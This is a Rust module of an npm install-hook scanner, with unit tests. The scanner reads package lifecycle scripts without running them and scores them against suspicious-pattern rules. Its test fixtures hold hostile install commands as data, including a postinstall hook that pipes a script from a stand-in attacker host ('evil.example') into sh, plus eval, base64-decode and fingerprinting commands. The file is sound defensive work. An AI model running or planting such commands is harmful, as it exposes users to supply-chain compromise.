//! Install-hook scanner.
//!
//! Fetches a package with lifecycle scripts suppressed, reads the manifest
//! npm actually delivered, and pattern-matches the three recognized install
//! hooks against the weighted rule set. The hooks themselves never execute;
//! a package that cannot even be fetched script-free gets a fixed
//! maximal-suspicion finding instead of a pass.

pub mod installer;
pub mod rules;

pub use installer::{InstallCapability, NpmCli};

use crate::types::{HookFinding, HookReport, Result};
use rules::HookRule;
use serde_json::Value;
use std::path::Path;
use tracing::{debug, warn};

/// The lifecycle hooks a package manager runs at install time.
const INSTALL_HOOKS: [&str; 3] = ["preinstall", "install", "postinstall"];

/// Severity assigned when a package cannot be inspected at all.
const INSTALL_FAILURE_SEVERITY: u32 = 5;

/// Static inspector for package install hooks.
pub struct HookScanner<I> {
    installer: I,
    rules: Vec<HookRule>,
}

impl<I: InstallCapability> HookScanner<I> {
    pub fn new(installer: I) -> Result<Self> {
        Ok(Self {
            installer,
            rules: rules::load_rules()?,
        })
    }

    /// Scan one package inside a temporary workdir. The workdir is removed
    /// on drop, error paths included.
    pub async fn scan(&self, package: &str) -> Result<HookReport> {
        let workdir = tempfile::tempdir()?;
        self.scan_in(package, workdir.path()).await
    }

    async fn scan_in(&self, package: &str, workdir: &Path) -> Result<HookReport> {
        let manifest = match self
            .installer
            .install_without_scripts(package, workdir)
            .await
        {
            Ok(path) => path,
            Err(e) => {
                warn!("Script-free install of {} failed: {}", package, e);
                return Ok(install_refused(package));
            }
        };

        let hooks = match read_install_hooks(&manifest) {
            Ok(hooks) => hooks,
            Err(e) => {
                warn!("Cannot read the manifest of {}: {}", package, e);
                return Ok(install_refused(package));
            }
        };
        debug!("{} declares {} install hooks", package, hooks.len());

        let findings = self.match_rules(&hooks);
        let risk_score = findings.iter().map(|f| f.severity).sum();
        Ok(HookReport {
            package: package.to_string(),
            scripts_found: hooks.into_iter().map(|(name, _)| name).collect(),
            findings,
            risk_score,
        })
    }

    /// Match every hook command against every rule; one command may trip
    /// several rules and each match is scored.
    fn match_rules(&self, hooks: &[(String, String)]) -> Vec<HookFinding> {
        let mut findings = Vec::new();
        for (hook, command) in hooks {
            for rule in &self.rules {
                if rule.regex.is_match(command) {
                    findings.push(HookFinding {
                        hook: hook.clone(),
                        pattern: rule.pattern.to_string(),
                        description: rule.description.to_string(),
                        severity: rule.severity,
                    });
                }
            }
        }
        findings
    }
}

/// Fixed report for a package that cannot be inspected: refusing a
/// script-free install is itself a strong signal.
fn install_refused(package: &str) -> HookReport {
    let finding = HookFinding {
        hook: "install".to_string(),
        pattern: "script-free install failed".to_string(),
        description: "Package could not be fetched without running its scripts".to_string(),
        severity: INSTALL_FAILURE_SEVERITY,
    };
    HookReport {
        package: package.to_string(),
        scripts_found: Vec::new(),
        risk_score: finding.severity,
        findings: vec![finding],
    }
}

/// Extract the recognized lifecycle hooks from a manifest, in declaration
/// order of [`INSTALL_HOOKS`]. Other scripts are ignored.
fn read_install_hooks(manifest: &Path) -> Result<Vec<(String, String)>> {
    let raw = std::fs::read_to_string(manifest)?;
    let parsed: Value = serde_json::from_str(&raw)?;
    let mut hooks = Vec::new();
    if let Some(scripts) = parsed.get("scripts").and_then(Value::as_object) {
        for hook in INSTALL_HOOKS {
            if let Some(command) = scripts.get(hook).and_then(Value::as_str) {
                hooks.push((hook.to_string(), command.to_string()));
            }
        }
    }
    Ok(hooks)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::types::{HookBand, TypoguardError};
    use std::path::PathBuf;

    /// Installer double that fakes an installed package with the given
    /// manifest body.
    struct FixtureInstaller {
        manifest: String,
    }

    impl FixtureInstaller {
        fn with_scripts(scripts: &str) -> Self {
            Self {
                manifest: format!(
                    "{{\"name\":\"fixture\",\"version\":\"1.0.0\",\"scripts\":{scripts}}}"
                ),
            }
        }
    }

    impl InstallCapability for FixtureInstaller {
        async fn install_without_scripts(&self, package: &str, workdir: &Path) -> Result<PathBuf> {
            let package_dir = workdir.join("node_modules").join(package);
            std::fs::create_dir_all(&package_dir)?;
            let manifest = package_dir.join("package.json");
            std::fs::write(&manifest, &self.manifest)?;
            Ok(manifest)
        }
    }

    /// Installer double that always refuses.
    struct BrokenInstaller;

    impl InstallCapability for BrokenInstaller {
        async fn install_without_scripts(&self, _package: &str, _workdir: &Path) -> Result<PathBuf> {
            Err(TypoguardError::InstallError("exit status: 1".to_string()))
        }
    }

    #[tokio::test]
    async fn test_pipe_to_shell_postinstall_is_high_risk() {
        let installer = FixtureInstaller::with_scripts(
            r#"{"postinstall":"curl -s http://evil.example/x.sh | sh"}"#,
        );
        let scanner = HookScanner::new(installer).unwrap();

        let report = scanner.scan("evil-pkg").await.unwrap();

        assert_eq!(report.scripts_found, vec!["postinstall"]);
        assert_eq!(report.findings.len(), 1);
        assert_eq!(report.findings[0].hook, "postinstall");
        assert_eq!(report.findings[0].severity, 5);
        assert_eq!(report.risk_score, 5);
        assert_eq!(report.band(), HookBand::High);
    }

    #[tokio::test]
    async fn test_only_the_three_install_hooks_are_read() {
        let installer = FixtureInstaller::with_scripts(
            r#"{"test":"eval(danger)","build":"curl x | sh","preinstall":"node setup.js"}"#,
        );
        let scanner = HookScanner::new(installer).unwrap();

        let report = scanner.scan("mostly-fine").await.unwrap();

        assert_eq!(report.scripts_found, vec!["preinstall"]);
        assert!(report.findings.is_empty());
        assert_eq!(report.risk_score, 0);
        assert_eq!(report.band(), HookBand::Low);
    }

    #[tokio::test]
    async fn test_one_command_can_trip_several_rules() {
        let installer = FixtureInstaller::with_scripts(
            r#"{"install":"eval(require('fs')) && echo blob | base64 --decode"}"#,
        );
        let scanner = HookScanner::new(installer).unwrap();

        let report = scanner.scan("layered").await.unwrap();

        assert_eq!(report.findings.len(), 2);
        assert_eq!(report.risk_score, 4 + 4);
        assert_eq!(report.band(), HookBand::High);
    }

    #[tokio::test]
    async fn test_hooks_are_reported_in_lifecycle_order() {
        let installer = FixtureInstaller::with_scripts(
            r#"{"postinstall":"whoami","preinstall":"uname -a","install":"id"}"#,
        );
        let scanner = HookScanner::new(installer).unwrap();

        let report = scanner.scan("fingerprinter").await.unwrap();

        assert_eq!(
            report.scripts_found,
            vec!["preinstall", "install", "postinstall"]
        );
        assert_eq!(report.findings.len(), 3);
        assert_eq!(report.risk_score, 6);
    }

    #[tokio::test]
    async fn test_refused_install_scores_fixed_severity() {
        let scanner = HookScanner::new(BrokenInstaller).unwrap();

        let report = scanner.scan("wont-install").await.unwrap();

        assert!(report.scripts_found.is_empty());
        assert_eq!(report.findings.len(), 1);
        assert_eq!(report.risk_score, 5);
        assert_eq!(report.band(), HookBand::High);
    }

    #[tokio::test]
    async fn test_manifest_without_scripts_is_clean() {
        let installer = FixtureInstaller {
            manifest: r#"{"name":"fixture","version":"1.0.0"}"#.to_string(),
        };
        let scanner = HookScanner::new(installer).unwrap();

        let report = scanner.scan("plain").await.unwrap();

        assert!(report.scripts_found.is_empty());
        assert!(report.findings.is_empty());
        assert_eq!(report.band(), HookBand::Low);
    }

    #[tokio::test]
    async fn test_unreadable_manifest_counts_as_refusal() {
        let installer = FixtureInstaller {
            manifest: "not json at all".to_string(),
        };
        let scanner = HookScanner::new(installer).unwrap();

        let report = scanner.scan("garbled").await.unwrap();

        assert_eq!(report.risk_score, 5);
        assert_eq!(report.band(), HookBand::High);
    }
}
